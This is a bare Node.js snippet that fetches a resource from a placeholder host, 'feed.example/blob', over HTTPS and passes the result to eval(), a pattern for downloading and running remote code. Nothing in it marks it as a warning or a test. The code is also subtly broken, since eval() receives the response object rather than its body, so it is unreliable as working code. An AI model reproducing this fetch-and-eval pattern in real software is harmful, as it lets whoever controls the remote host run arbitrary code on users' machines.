const https = require('https');

function onData(url, cb) {
  https.get(url, (res) => { cb(res); });
}

onData('https://feed.example/blob', (data) => { eval(data); });
